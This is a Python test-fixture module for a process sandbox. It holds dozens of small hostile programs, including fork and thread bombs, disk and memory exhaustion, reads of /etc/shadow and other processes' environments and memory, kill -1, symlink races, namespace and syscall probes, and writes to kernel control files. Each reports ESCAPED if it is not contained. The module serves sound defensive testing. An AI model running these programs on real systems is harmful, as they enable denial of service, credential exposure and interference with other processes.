"""Programs that try to get out, or to take what is not theirs. Each prints ESCAPED, or leaves a trace outside, where
nothing holds it back: `test_hostile.py` also runs most of them without a sandbox, to see that they can. Each prints
DONE at its end, so that none passes for held that has not tried.

The names in `@...@` are filled in: the neighbourhood that they attack.
"""

from .more_programs import MORE

PRELUDE = """
import ctypes, os, platform, resource, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
victim, secret, folder, name = @victim@, "@secret@", "@folder@", "@name@"
def escaped(what=""):
    print("ESCAPED", what, flush=True)
def attempt(what, *arguments):
    try:
        if what(*arguments) not in (None, False, -1):
            escaped(what)
    except (OSError, MemoryError, RuntimeError, OverflowError):
        pass
def call(x86, arm, *arguments):
    return libc.syscall(ctypes.c_long(x86 if X86 else arm), *map(ctypes.c_long, arguments))
def read(path):
    with open(path, "rb") as file:
        return secret_text in file.read(1 << 20)
secret_text = b"@text@"
def fork():
    try:
        return os.fork()
    except OSError:
        return -1
def others():
    found = {victim, os.getppid(), 1, *range(2, 9)}
    try:
        found |= {int(name) for name in os.listdir("/proc") if name.isdecimal()}
    except OSError:
        pass
    return found - {0, os.getpid()}
"""

FORK_BOMB = """
count = 0
try:
    for count in range(150):
        if not os.fork():
            time.sleep(1)
            os._exit(0)
except OSError:
    pass
if count > 100:
    escaped(count)
"""

THREAD_BOMB = """
threading.stack_size(65536)
count = 0
try:
    for count in range(300):
        threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
except RuntimeError:
    pass
if count > 250:
    escaped(count)
"""

GREED = """
import mmap
attempt(mmap.mmap, -1, 10 << 30)
attempt(lambda: len(bytearray(1 << 30)))
"""

GREED_OF_MANY = """
def chatter():
    while True:
        print("x", flush=True)
        time.sleep(0.01)
threading.Thread(target=chatter, daemon=True).start()
ready, told = os.pipe()
for _ in range(5):
    if not fork():
        held = bytearray(b"x") * (300 << 20)
        os.write(told, b"x")
        time.sleep(5)
        os._exit(0)
os.close(told)
time.sleep(0.5)
total = 0
while total < 5 and os.read(ready, 1):
    total += 1
time.sleep(0.3)
if total == 5:
    escaped()
"""

WRITE_OUTSIDE = """
for place in (folder, "/var/tmp", "/dev/shm", "/run", "/etc", "/usr/lib", "/root", os.path.dirname(os.__file__)):
    try:
        with open(f"{place}/{name}", "w") as file:
            file.write("x")
    except OSError:
        pass
try:
    with open(secret, "a") as file:
        file.write("y")
except OSError:
    pass
"""

READ_FILES = """
for path in (secret, "/etc/shadow", "/etc/passwd", "/etc/hostname", "@repository@/README.md", "/root/.bashrc"):
    attempt(lambda: bool(open(path).read()))
for path in ("/home", "/root", "/etc", "/var", "@repository@"):
    attempt(lambda: "@name@" not in os.listdir(path) and path != "/root" and bool(os.listdir(path)) and path != "/etc")
"""

ENVIRONMENT = """
if any(secret_text in value for value in os.environb.values()):
    escaped("own")
for pid in others():
    attempt(read, f"/proc/{pid}/environ")
"""

INET = "attempt(socket.create_connection, ('127.0.0.1', @port@), 1)"
UNIX = """
def connect(address):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(address)
        return True
attempt(connect, f"{folder}/stream")
"""
ABSTRACT = UNIX.replace('f"{folder}/stream"', 'f"\\0{name}"')
NETLINK = "attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).getsockname())"
PACKET = "attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).fileno())"
DATAGRAM_OF_A_PAIR = """
def send():
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.sendto(b"x", f"{folder}/datagram")
attempt(send)
"""

DAEMON = """
if not fork():
    os.setsid()
    if not os.fork():
        libc.prctl(15, b"@name@")
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        time.sleep(30)
    os._exit(0)
time.sleep(0.1)
"""

KILL_VICTIM = """
for sends in (lambda: os.kill(victim, 9), lambda: call(200, 130, victim, 9),
              lambda: signal.pidfd_send_signal(os.pidfd_open(victim), 9)):
    try:
        sends()
    except OSError:
        pass
"""
KILL_EVERYBODY = """
try:
    os.kill(-1, 9)
except OSError:
    pass
"""
SIGNAL_BY_FILE = """
import fcntl
read_end, write_end = os.pipe()
for set_owner in (lambda: fcntl.fcntl(read_end, 8, victim),
                  lambda: fcntl.fcntl(read_end, 15, struct.pack("ii", 1, victim)),
                  lambda: fcntl.ioctl(read_end, 0x8901, struct.pack("i", victim))):
    try:
        set_owner()
        fcntl.fcntl(read_end, 10, 9)
    except OSError:
        continue
fcntl.fcntl(read_end, fcntl.F_SETFL, fcntl.fcntl(read_end, fcntl.F_GETFL) | os.O_ASYNC)
os.write(write_end, b"x")
time.sleep(0.05)
"""
PTRACE = """
for pid in others():
    if call(101, 117, 0x4206, pid, 0, 0) == 0:
        escaped(pid)
        break
"""
READ_MEMORY = """
buffer = ctypes.create_string_buffer(8)
address = ctypes.addressof(buffer)
class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
def readable(pid):
    with open(f"/proc/{pid}/maps") as file:
        first = file.readline()
    if not first:  # it has ended, and nobody has waited for it yet
        return False
    start = int(first.split("-")[0], 16)
    ours, theirs = Vector(address, 8), Vector(start, 8)
    return call(310, 270, pid, ctypes.addressof(ours), 1, ctypes.addressof(theirs), 1, 0) == 8
for pid in others():
    attempt(readable, pid)
"""
OTHERS_MEMORY = """
for pid in others():
    attempt(lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR))
"""
OTHERS_ROOT = """
for pid in others():
    for way in ("root", "cwd"):
        attempt(read, f"/proc/{pid}/{way}{secret}")
        attempt(read, f"/proc/{pid}/{way}/../../../../../../{secret}")
"""
OTHERS_FILES = """
for pid in others():
    for number in range(32):
        attempt(lambda: os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR))
"""
KERNEL_KNOBS = """
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
             "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper", "/sys/power/state", "/dev/kmsg", "/dev/vda"):
    attempt(lambda: os.open(path, os.O_WRONLY))
"""
SYMLINK_RACE = """
places = [folder, "/tmp", "/dev/shm", os.getcwd()]
for place in places:
    link, plain = f"{place}/{name}.link", f"{place}/{name}.plain"
    try:
        with open(plain, "w") as file:
            file.write("z")
        stop = time.monotonic() + 0.1
        def swap():
            while time.monotonic() < stop:
                for target in (plain, secret, f"/proc/self/root{secret}", "/proc/1/root" + secret):
                    try:
                        os.symlink(target, link + "2")
                        os.rename(link + "2", link)
                    except OSError:
                        pass
        thread = threading.Thread(target=swap)
        thread.start()
        while time.monotonic() < stop:
            attempt(read, link)
        thread.join()
        os.unlink(link)
        os.unlink(plain)
    except (OSError, RuntimeError):
        continue
"""
DISK_FILL = """
block, total = b"x" * (1 << 20), 0
for place in (folder, "/tmp", "/dev/shm", "/var/tmp"):
    written = []
    try:
        for number in range(6):
            written.append(f"{place}/{name}.{number}")
            with open(written[-1], "wb", buffering=0) as file:
                for _ in range(20):
                    total += file.write(block)
    except OSError:
        pass
    for path in written:
        try:
            os.unlink(path)
        except OSError:
            pass
if total > 100 << 20:
    escaped(total)
"""
SPARSE_FILE = """
for place in (folder, "/tmp", "/dev/shm"):
    path = f"{place}/{name}.sparse"
    try:
        with open(path, "wb") as file:
            file.truncate(1 << 36)
        if os.stat(path).st_size == 1 << 36:
            escaped()
        os.unlink(path)
    except OSError:
        pass
"""
MANY_FILES = """
for place in (folder, "/tmp"):
    try:
        for number in range(3000):
            open(f"{place}/{name}.{number}", "w").close()
        escaped()
    except OSError:
        pass
    for number in range(3000):
        try:
            os.unlink(f"{place}/{name}.{number}")
        except OSError:
            pass
"""
IO_URING = "attempt(lambda: call(425, 425, 4, ctypes.addressof(ctypes.create_string_buffer(120))))"
USERFAULTFD = "attempt(lambda: call(323, 282, 1))"
MEMFD_EXEC = """
def execute():
    program = os.memfd_create("x", 0)
    with open(os.path.realpath(sys.executable), "rb") as file:
        os.write(program, file.read())
    os.execve(program, ["python", "-I", "-c", "print('ESCAPED')"], {})
attempt(execute)
"""
MEMFD_MEMORY = """
held = []
def hold():
    for _ in range(20):
        held.append(os.memfd_create("x"))
        for _ in range(16):
            os.write(held[-1], bytes(1 << 20))
    return True
attempt(hold)
"""
PRLIMIT = "attempt(lambda: resource.prlimit(victim, resource.RLIMIT_NOFILE, (77, 77)) and None)"
RENICE = "attempt(lambda: os.setpriority(os.PRIO_PROCESS, victim, 7))"
AFFINITY = "attempt(lambda: os.sched_setaffinity(victim, {0}))"
SCHEDULER = "attempt(lambda: os.sched_setscheduler(victim, os.SCHED_IDLE, os.sched_param(0)))"
CHMOD = """
for change in (lambda: os.chmod(f"{folder}/owned", 0), lambda: os.utime(f"{folder}/owned", (1, 1)),
               lambda: os.truncate(f"{folder}/owned", 0), lambda: os.setxattr(f"{folder}/owned", "user.x", b"1"),
               lambda: os.open(f"{folder}/owned", os.O_RDONLY | os.O_TRUNC)):
    try:
        change()
    except OSError:
        pass
"""
INHERITED = """
for number in range(3, 256):
    try:
        if secret_text in os.pread(number, 1 << 16, 0):
            escaped(number)
    except OSError:
        pass
"""
MOUNT = "attempt(lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0)"
UNSHARE = "attempt(lambda: libc.unshare(0x10000000) == 0)"
CLONE = """
pid = call(56, 220, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
if pid > 0:
    escaped()
"""
SETNS = """
for pid in others():
    for kind in ("user", "mnt", "net", "pid"):
        try:
            space = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        if os.readlink(f"/proc/{pid}/ns/{kind}") != os.readlink(f"/proc/self/ns/{kind}"):
            escaped(kind)
attempt(lambda: libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0) == 0)
"""
KEYCTL = """
kept = [ctypes.create_string_buffer(text) for text in (b"user", b"forge", b"x")]
attempt(lambda: call(248, 217, *map(ctypes.addressof, kept), 1, -3))
"""
BPF = """
kept = ctypes.create_string_buffer(struct.pack("IIIII", 2, 4, 4, 1, 0), 72)
attempt(lambda: call(321, 280, 0, ctypes.addressof(kept), 72))
"""
PERF = """
kept = ctypes.create_string_buffer(struct.pack("IIQQQQ", 1, 112, 0, 0, 0, 0), 112)
attempt(lambda: call(298, 241, ctypes.addressof(kept), 0, -1, -1, 0))
"""
PERSONALITY = "attempt(lambda: call(135, 92, 0x0040000) + 1)"
SETUID = """
import subprocess
attempt(lambda: subprocess.run(["/usr/bin/su", "--version"], capture_output=True).returncode == 0)
"""
OUTLIVE = "attempt(lambda: libc.prctl(1, 0) == 0)"
WATCH = """
watch = libc.inotify_init()
attempt(lambda: watch >= 0 and libc.inotify_add_watch(watch, secret.encode(), 1) >= 0)
"""
SHARED_MEMORY = """
made = libc.shmget(@port@, 4096, 0o1600)
if made >= 0:
    escaped(libc.shmctl(made, 0, None))
"""
MESSAGE_QUEUE = """
made = libc.msgget(@port@, 0o1600)
if made >= 0:
    escaped(libc.msgctl(made, 0, None))
"""
QUEUE_OF_A_NEIGHBOUR = """
message = ctypes.create_string_buffer(64)
attempt(lambda: libc.msgrcv(@queue@, message, 56, 0, 0o4000) >= 0 and secret_text in message.raw)
attempt(lambda: libc.msgsnd(@queue@, message, 8, 0o4000) == 0)
attempt(lambda: libc.msgctl(@queue@, 0, None) == 0)
"""
SEMAPHORE_OF_A_NEIGHBOUR = """
attempt(lambda: libc.semop(@semaphore@, struct.pack("Hhh", 0, 1, 0o4000), 1) == 0)
attempt(lambda: libc.semctl(@semaphore@, 0, 16, 7) == 0)
attempt(lambda: libc.semctl(@semaphore@, 0, 0) == 0)
"""
MEMORY_OF_A_NEIGHBOUR = """
attempt(lambda: libc.shmat(@memory@, None, 0))
attempt(lambda: libc.shmctl(@memory@, 0, None) == 0)
"""
POSIX_QUEUE_OF_A_NEIGHBOUR = """
attempt(lambda: libc.mq_open(b"/@name@", os.O_RDWR) >= 0)
attempt(lambda: libc.mq_unlink(b"/@name@") == 0)
"""
BY_HANDLE = """
handle, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136), ctypes.c_int()
attempt(lambda: libc.name_to_handle_at(-100, secret.encode(), handle, ctypes.byref(mount), 0) == 0)
"""
HOST_NAME = "attempt(lambda: libc.sethostname(b'x', 1) == 0)"
KERNEL_LOG = "attempt(lambda: call(103, 116, 10, 0, 0))"
TERMINAL = """
import fcntl
attempt(lambda: os.open("/dev/tty", os.O_RDWR))
attempt(lambda: os.open("/dev/ptmx", os.O_RDWR))
"""
FOREIGN_MESSAGES = """
import json
text = json.dumps([{"status": "ok", "exit_code": 0, "seconds": 0, "ended": False}, [7, 0]]).encode()
frame = struct.pack("I", len(text)) + text + b"ESCAPED"
for number in range(3, 256):
    try:
        os.write(number, frame)
    except OSError:
        pass
"""

# name: (the program, whether it succeeds for an ordinary user without a sandbox, so that the test can see it)
ESCAPES = {
    name.lower(): (
        f"{PRELUDE}{text}\nprint('DONE', flush=True)",
        name not in ("KERNEL_KNOBS", "PACKET", "BPF", "MOUNT", "PERF", "HOST_NAME", "KERNEL_LOG"),
    )
    for name, text in list(globals().items())
    if name.isupper() and name not in ("PRELUDE", "MORE")
} | {name.lower(): (f"{PRELUDE}{text}\nprint('DONE', flush=True)", succeeds) for name, (text, succeeds) in MORE.items()}
